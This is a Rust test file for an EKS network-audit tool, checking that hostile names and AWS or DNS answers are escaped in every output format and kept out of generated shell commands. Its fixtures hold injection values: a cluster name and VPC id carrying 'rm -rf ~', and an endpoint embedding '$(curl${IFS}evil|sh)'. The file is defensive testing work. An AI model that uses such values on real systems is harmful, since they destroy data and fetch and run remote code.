//! Hostile names of processes, clusters, AWS resources and DNS answers: no control
//! sequence reaches the terminal in any format, and nothing is lost.

use std::fs;

use eks_netcheck::report::text::is_hostile;

use crate::common::{Netcheck, copy_of, story};

/// Checks that no line contains a control or bidirectional formatting character.
fn assert_harmless(text: &str) {
    for line in text.lines() {
        assert!(!line.contains(is_hostile), "{line:?}");
    }
}

#[test]
fn hostile_names_are_escaped_in_table_and_json() {
    let dir = story("hostile-names");
    for args in [&["--format", "table", "-v"][..], &["--format", "json", "-v"]] {
        let ran = Netcheck::audit(&dir).args(args).run();
        assert_eq!(ran.code, 1);
        assert_harmless(&ran.stdout);
        assert_harmless(&ran.stderr);
    }
    let (report, _) = Netcheck::audit(&dir).json();
    let names: Vec<_> =
        report["connections"].as_array().unwrap().iter().filter_map(|row| row["process"].as_str()).collect();
    // A JSON reader gets the original name back.
    assert!(names.iter().any(|name| name.contains('\u{1b}')), "{names:?}");
    assert!(names.iter().any(|name| name.contains('\u{202e}')), "{names:?}");
    assert!(names.contains(&"x\",pid=1,fd=2)"), "{names:?}");
}

#[test]
fn skipped_lines_are_counted_in_table_and_json_and_listed_with_verbose() {
    let dir = story("hostile-names");
    let (report, _) = Netcheck::audit(&dir).json();
    let table = Netcheck::audit(&dir).arg("--all").run();
    let listed = Netcheck::audit(&dir).arg("-v").run().stderr;
    assert_eq!(table.stderr, "", "standard error is empty without -v");
    for node in report["nodes"].as_array().unwrap() {
        let (name, skipped) = (node["name"].as_str().unwrap(), node["skipped_lines"].as_u64().unwrap());
        assert!(skipped > 0);
        let lines = listed.lines().filter(|line| line.starts_with(&format!("node {name}, line ")));
        assert_eq!(lines.count() as u64, skipped, "{name}");
        let row = table.stdout.lines().find(|line| line.starts_with(name) && line.contains("read")).unwrap();
        assert!(row.trim_end().ends_with(&skipped.to_string()), "{row}");
    }
}

#[test]
fn a_hostile_cluster_name_is_escaped_and_kept_out_of_commands() {
    let copy = copy_of("study-public");
    let path = copy.path().join("cluster.json");
    let text = fs::read_to_string(&path)
        .unwrap()
        .replace("\"name\": \"myeks\"", "\"name\": \"x\\u001b[2J; rm -rf ~\\n::error::\"");
    fs::write(&path, text).unwrap();
    let hostile = "x\u{1b}[2J; rm -rf ~\n::error::";
    for format in ["table", "json"] {
        let ran = Netcheck::new(["audit", "--cluster", hostile, "--format", format, "--evidence"])
            .arg(copy.path())
            .run();
        assert_eq!(ran.code, 1, "{}", ran.stderr);
        assert_harmless(&ran.stdout);
        // A name that a shell would split or expand is not put into commands.
        for line in ran.stdout.lines().filter(|line| line.contains("aws eks ")) {
            assert!(!line.contains("rm -rf"), "{line}");
        }
    }
    // It cannot forge a line of an error message either.
    let ran = Netcheck::audit(copy.path()).run();
    assert_eq!((ran.code, ran.stderr.lines().count()), (4, 1), "{}", ran.stderr);
    assert_harmless(&ran.stderr);
}

#[test]
fn a_line_feed_in_an_aws_answer_forges_no_line() {
    let copy = copy_of("study-public");
    let path = copy.path().join("network-interfaces.json");
    let text = fs::read_to_string(&path).unwrap();
    let forged = text
        .replace("\"ap-northeast-2a\"", "\"a\\nPASS  nothing found\"")
        .replace(":AmazonEKS\"", ":x\\nPASS  nothing found\"");
    assert_ne!(forged, text);
    fs::write(&path, forged).unwrap();
    let ran = Netcheck::audit(copy.path()).run();
    assert_eq!(ran.code, 1);
    assert!(!ran.stdout.lines().any(|line| line.starts_with("PASS")), "{}", ran.stdout);
}

/// Commands in hints contain only names that a shell reads as one plain word.
#[test]
fn hints_contain_no_shell_syntax() {
    let copy = copy_of("private-only");
    let path = copy.path().join("cluster.json");
    let mut cluster: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    cluster["cluster"]["endpoint"] = "https://$(curl${IFS}evil|sh)".into();
    cluster["cluster"]["resourcesVpcConfig"]["vpcId"] = "vpc-1;rm -rf ~".into();
    fs::write(&path, cluster.to_string()).unwrap();
    fs::remove_dir_all(copy.path().join("dns")).unwrap();
    fs::remove_file(copy.path().join("vpc.json")).unwrap();
    let (report, _) = Netcheck::audit(copy.path()).json();
    for gap in report["gaps"].as_array().unwrap() {
        let hint = gap["hint"].as_str().unwrap();
        assert!(!hint.contains("rm -rf") && !hint.contains("$("), "{hint}");
    }
}

#[test]
fn hostile_dns_answers_are_escaped() {
    let copy = copy_of("study-public");
    fs::write(copy.path().join("dns/here.txt"), ";; \x1b]0;title\x07 timed out\n").unwrap();
    let ran = Netcheck::audit(copy.path()).run();
    assert_harmless(&ran.stdout);
    assert!(ran.stdout.contains("timed out"), "{}", ran.stdout);
}

/// GitHub Actions shows the file of an annotation, which may be a policy of somebody else.
#[test]
fn a_hostile_name_of_a_policy_is_escaped_in_every_format() {
    let copy = copy_of("study-public");
    let name = "x\u{1b}[2J\u{202e}.toml";
    let waiver = "[[waiver]]\nrule = \"node-cut-off\"\nresource = \"x\"\nreason = \"r\"\nowner = \"o\"\nexpires = 9999-12-31\n";
    fs::write(copy.path().join(name), waiver).unwrap();
    for format in [
        "table",
        "html",
        "json",
        "sarif",
        "junit",
        "markdown",
        "github",
        "gitlab",
        "ocsf",
        "asff",
        "openmetrics",
    ] {
        let ran =
            Netcheck::audit(copy.path()).dir(copy.path()).args(&["--policy", name, "--format", format]).run();
        assert_eq!(ran.code, 1, "{}", ran.stderr);
        assert_harmless(&ran.stdout);
    }
}
